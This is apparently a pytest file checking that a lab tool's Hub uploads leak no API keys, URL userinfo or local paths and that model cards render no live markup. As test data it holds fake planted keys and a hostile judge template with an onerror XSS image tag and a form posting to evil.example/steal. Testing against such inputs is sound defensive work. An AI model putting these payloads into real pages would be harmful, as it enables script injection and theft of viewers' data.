"""What is published holds no credential, no local path and no live markup (issue 9, items 6 and 7).

(a) URL userinfo (`http://user:sk-...@host/v1`) is never recorded: not in run.json, a log, a message or a card, and
    the app refuses such a base URL. (b) The pre-upload scan covers the value of every credential-like variable and
    URLs with userinfo, parquet included. (c) Staged folders name no place on this machine. (7) A judge template with
    code fences and HTML stays text in the card and in the Share tab's preview.
"""
from __future__ import annotations

import json
import os
import subprocess
import sys
import tempfile
from pathlib import Path

import gradio as gr
import pytest

from lab import hub, models
from lab.hub import PushConfig
from lab.errors import LabError
from lab.store import Run, append_jsonl, atomic_write_text, scrub
from tests.fakeprovider import FakeProvider
from tests.test_hub import build_run
from tests.test_judge import add_samples, prefer_higher

ROOT = Path(__file__).resolve().parent.parent
IN_URL = "sk-" + "inTheBaseUrl" + "0123456789abcdef"  # planted, split so the source holds nothing key-shaped
ACME = "acme-" + "PLANTEDserviceKey" + "0123456789"


def staged_texts(folder: Path) -> dict[str, str]:
    """Every staged file as text; parquet files as their rows (read with pyarrow), so a value cannot hide in a
    compressed page."""
    import pyarrow.parquet as pq

    out = {}
    for p in sorted(folder.rglob("*")):
        if p.is_file():
            text = p.read_bytes().decode("utf-8", errors="replace")
            if p.suffix == ".parquet":
                text += json.dumps(pq.read_table(p).to_pylist(), default=str)
            out[str(p.relative_to(folder))] = text
    return out


def dry_run(run: Run) -> dict[str, str]:
    hub.push_run(run, PushConfig(dry_run=True, namespace="alice"))
    return staged_texts(run.file("hub"))


# ---- (a) URL userinfo ------------------------------------------------------------------------------------------------
def test_scrub_redacts_userinfo_in_every_string_at_any_depth():
    out = scrub({"base_url": f"http://alice:{IN_URL}@h:8000/v1", "notes": [f"via https://{IN_URL}@proxy/x and on"],
                 "plain": "https://api.openai.com/v1", "n": 3})
    assert IN_URL not in json.dumps(out) and "alice" not in json.dumps(out)
    assert out["base_url"] == "http://***@h:8000/v1" and out["notes"] == ["via https://***@proxy/x and on"]
    assert out["plain"] == "https://api.openai.com/v1" and out["n"] == 3


@pytest.mark.slow
def test_a_base_url_with_userinfo_reaches_no_record_log_message_or_card(run, runs_dir):
    add_samples(run, n=2, k=3)
    with FakeProvider(key=None, answer=prefer_higher) as fp:
        url = fp.url.replace("http://", f"http://alice:{IN_URL}@") + "/v1"
        env = {**os.environ, "LAB_RUNS_DIR": str(runs_dir), "MY_JUDGE_KEY": "sk-mine-0123456789"}
        base = [sys.executable, "-m", "lab", "judge", "--run", "t", "--backend", "openai", "--model", "m", "--rpm",
                "0", "--api-key-env", "MY_JUDGE_KEY"]
        done = subprocess.run(base + ["--base-url", url], cwd=ROOT, env=env, capture_output=True, text=True,
                              timeout=120)
        dead = subprocess.run(base + ["--base-url", f"http://bob:{IN_URL}@127.0.0.1:9/v1", "--model", "m2",
                                      "--max-retries", "0", "--timeout-s", "2"],
                              cwd=ROOT, env=env, capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    assert dead.returncode == 2 and "http://***@127.0.0.1:9/v1" in dead.stderr
    assert run.stage_settings("judge")["base_url"].startswith("http://***@127.0.0.1:")
    subprocess.run([sys.executable, "-m", "lab", "pairs", "--run", "t"], cwd=ROOT, env=env, check=True,
                   capture_output=True)
    staged = dry_run(run)
    assert "http://***@127.0.0.1:" in staged["t-judge/README.md"]  # the card shows the setting, redacted
    everything = [done.stdout, done.stderr, dead.stdout, dead.stderr, *staged.values()]
    everything += [p.read_text(errors="replace") for p in runs_dir.rglob("*") if p.is_file()]
    assert not any(IN_URL in t or "alice:" in t for t in everything)


def test_the_app_refuses_a_base_url_with_userinfo(run):
    from lab import jobs
    from lab.judge import DEFAULT_TEMPLATE
    from lab.ui import judge as tab

    add_samples(run, n=1, k=3)
    with pytest.raises(gr.Error, match="user name or password.*API key box"):
        tab.start_judging("t", "openai", "m", f"http://alice:{IN_URL}@127.0.0.1:9/v1", "knockout", 0, 2, 8,
                          DEFAULT_TEMPLATE, api_key="sk-typed-0123456789")
    assert jobs.status(run)["state"] == "none"  # no job.json holds the URL


# ---- (b) the secret scan ---------------------------------------------------------------------------------------------
def test_the_scan_covers_every_credential_variable(monkeypatch):
    for name in ("ACME_API_KEY", "GITHUB_TOKEN", "MY_SECRET_THING", "MAX_NEW_TOKENS"):
        monkeypatch.setenv(name, "x")
    names = hub.credential_env_names()
    for name in ("GROQ_API_KEY", "OPENAI_API_KEY", "LAB_API_KEY_GROQ", "LAB_API_KEY_OPENAI", "HF_TOKEN", "HUGGING_FACE_HUB_TOKEN",
                 "ACME_API_KEY", "GITHUB_TOKEN", "MY_SECRET_THING"):
        assert name in names
    assert "MAX_NEW_TOKENS" not in names  # a count, not a credential


def test_a_credential_from_any_variable_inside_a_parquet_stops_the_push(run, monkeypatch):
    build_run(run)
    monkeypatch.setenv("ACME_API_KEY", ACME)
    append_jsonl(run.file("samples"), [{**run.read("samples")[0], "sample_index": 9, "text": f"my key is {ACME}"}])
    with pytest.raises(LabError, match=r"samples/train-00000-of-00001.parquet contains a token or API key "
                                       r"\(the value of \$ACME_API_KEY\)") as err:
        hub.push_run(run, PushConfig(dry_run=True))
    assert ACME not in str(err.value)


def test_a_url_with_userinfo_in_a_staged_file_stops_the_push(run):
    build_run(run)
    append_jsonl(run.file("judgments"), [{**run.read("judgments")[0], "raw": f"see http://carol:{IN_URL}@db/x"}])
    with pytest.raises(LabError, match="judgments/.*parquet contains a URL with a user name or password"):
        hub.push_run(run, PushConfig(dry_run=True))


def test_a_weights_file_is_scanned_in_its_header_not_its_numbers(tmp_path):
    """Trained floats once held the bytes 'C://&<...>@' and a real push was refused; a header's text is still read."""
    import torch
    from safetensors.torch import save_file

    noise = torch.frombuffer(bytearray(b"xC://&\xbb=c\xac;|@\x95host" * 64), dtype=torch.uint8).clone()
    save_file({"w": noise}, str(tmp_path / "adapter_model.safetensors"))
    hub.check_no_secrets(tmp_path, {})  # the numbers are not text
    save_file({"w": noise}, str(tmp_path / "adapter_model.safetensors"), metadata={"src": f"http://u:{IN_URL}@db"})
    with pytest.raises(LabError, match="adapter_model.safetensors contains a URL with a user name or password"):
        hub.check_no_secrets(tmp_path, {})
    (tmp_path / "adapter_model.safetensors").unlink()
    (tmp_path / "notes.txt").write_bytes(b"binary C://&\xbb=c\xac;|@\x95 is not a URL; ftp://bob:pw@files.example is")
    with pytest.raises(LabError, match="notes.txt contains a URL"):
        hub.check_no_secrets(tmp_path, {})


# ---- (c) local paths -------------------------------------------------------------------------------------------------
def local_places(runs_dir: Path, tmp_path: Path) -> list[str]:
    """What must not appear in a staged folder: the home folder, the runs root, the lab cache, the temp folders."""
    return [str(Path.home()), str(runs_dir), str(models.cache_dir()), str(tmp_path),
            tempfile.gettempdir().rstrip("/") + "/"]


def assert_no_local_place(staged: dict[str, str], places: list[str]) -> None:
    found = [(name, place) for name, text in staged.items() for place in places if place in text]
    assert not found, found[:10]


def test_staged_folders_carry_hub_ids_and_relative_names_only(run, runs_dir, tmp_path):
    """The run in the documented formats, with the absolute paths a real run records: the model's cache folder in
    every sample, a user's instruction file, the judge prompt file, the adapter's base and pairs paths."""
    build_run(run)
    tiny = models.tiny_random_path()
    mine = tmp_path / "my-instructions.jsonl"
    append_jsonl(run.file("samples"), [{**s, "model_path": tiny} for s in run.read("samples")[:1]])
    run.record_stage("sample", {**run.stage_settings("sample"), "model_path": tiny, "instructions": str(mine)})
    run.record_stage("judge", {**run.stage_settings("judge"), "prompt_file": str(run.file("judge_prompt")),
                               "note": f"template read from {run.file('judge_prompt')} at start"})
    run.record_stage("rank", {"ranker": str(models.cache_dir() / "tiny-random-pairrm")})
    staged = dry_run(run)
    assert_no_local_place(staged, local_places(runs_dir, tmp_path))
    adapter = json.loads(staged["t-dpo-judge/adapter_config.json"])
    state = json.loads(staged["t-dpo-judge/training.json"])
    assert adapter["base_model_name_or_path"] == state["base_model_path"] == "tiny-random-llama"
    assert state["pairs"]["path"] == "pairs-judge.jsonl"  # inside the run: relative to it
    card = staged["t-judge/README.md"]
    assert '"prompt_file": "judge-prompt.txt"' in card and '"instructions": "my-instructions.jsonl"' in card
    assert "template read from judge-prompt.txt at start" in card
    assert (run.adapter_dir("dpo-judge") / "training.json").read_text().count(str(run.path)) == 1  # source intact


def test_public_paths_map_the_bundled_model_and_hub_caches_to_their_ids(run):
    paths = hub.PublicPaths(run.path)
    assert paths.text(str(models.bundled_dir())) == models.BUNDLED_HUB_ID
    assert paths.text(str(models.bundled_dir() / "config.json")) == models.BUNDLED_HUB_ID
    snapshot = "/home/someone/.cache/huggingface/hub/models--meta-llama--Llama-3.2-1B-Instruct/snapshots/abc123"
    assert paths.text(snapshot) == "meta-llama/Llama-3.2-1B-Instruct"
    assert paths.text(str(run.path / "iterations" / "1" / "adapters" / "round-1")) == "iterations/1/adapters/round-1"
    assert paths.text("/data/elsewhere/held.jsonl") == "held.jsonl"
    assert paths.text("https://api.groq.com/openai/v1") == "https://api.groq.com/openai/v1"  # not a local path
    assert paths.text("answer: run /usr/bin/env python") == "answer: run /usr/bin/env python"  # text stays text


@pytest.mark.slow
def test_a_real_runs_staged_folders_hold_no_local_path(runs_dir, tmp_path, tiny):
    """sample, judge (local), rank, pairs and train on tiny-random through the CLI's entry point (lab.cli.main, in
    this process: the commands' own code, without a child's seconds of imports each), then `push --dry-run`. The
    README's recipe test checks the same on the bundled model's run, each command a child process."""
    from lab import cli

    src = tmp_path / "prompts.txt"
    src.write_text("Say hi.\nName a fruit.\nCount to three.\n")
    steps = [["sample", "--model", "tiny-random", "--instructions", str(src), "--n", "3", "--k", "3",
              "--max-new-tokens", "8"],
             ["judge", "--backend", "local", "--model", "tiny-random", "--reasoning-tokens", "4"],
             ["rank", "--ranker", "tiny-random", "--device", "cpu"],
             ["pairs", "--source", "pairrm"],  # the tiny judge decides little; its records ship with these pairs
             ["train", "--pairs", "pairrm", "--adapter", "dpo", "--max-steps", "1", "--batch-size", "1",
              "--no-gradient-checkpointing", "--eval-fraction", "0"],
             ["push", "--dry-run", "--namespace", "alice"]]
    for step in steps:
        assert cli.main([step[0], "--run", "real", *step[1:]]) == 0, step
    staged = staged_texts(Run.open("real").file("hub"))
    assert {"real-dpo/adapter_config.json", "real-dpo/training.json", "real-pairrm/README.md",
            "real-pairrm/samples/train-00000-of-00001.parquet",
            "real-pairrm/judgments/train-00000-of-00001.parquet"} <= set(staged)
    assert_no_local_place(staged, local_places(runs_dir, tmp_path))


# ---- 7: markup in cards ---------------------------------------------------------------------------------------------
HOSTILE = ("Judge the answers.\n```\n<img src=x onerror=alert(1)>\n````\n<form action=https://evil.example/steal>"
           "<input name=k></form>\n~~~~~\n[Instruction] {instruction}\n[A] {response_a}\n[B] {response_b}")


def hostile_run(run: Run) -> Run:
    build_run(run)
    atomic_write_text(run.file("judge_prompt"), HOSTILE)
    run.record_stage("judge", {**run.stage_settings("judge"), "prompt": HOSTILE,
                               "model": "<img src=y onerror=alert(2)>"})
    return run


def rendered(markdown: str) -> str:
    """The card as a Markdown renderer that allows raw HTML (the Hub's README view) turns it into HTML."""
    from markdown_it import MarkdownIt

    return MarkdownIt("commonmark", {"html": True}).enable("table").render(markdown)


def test_a_template_with_fences_and_html_stays_text_in_the_card(run):
    from lab.cards import fence

    card = dry_run(hostile_run(run))["t-judge/README.md"]
    html = rendered(card)
    assert "<img" not in html and "<form" not in html and "<input" not in html
    assert "&lt;form action=https://evil.example/steal&gt;" in html  # shown, as text
    assert fence(HOSTILE).startswith("``````text\n") and rendered(fence(HOSTILE)).count("<pre>") == 1


def test_the_share_preview_renders_no_live_html(run):
    from lab.ui import share

    hostile_run(run)
    share.stage_only("t", "alice", "", True, True, True, True, "")
    preview = share.card_preview("t", "t-judge")
    assert "<h1>alice/t-judge</h1>" in preview  # rendered Markdown, not raw text
    assert "<img" not in preview and "<form" not in preview and "&lt;img src=x onerror=alert(1)&gt;" in preview
    assert share.card_preview("t", "../t-judge") == ""
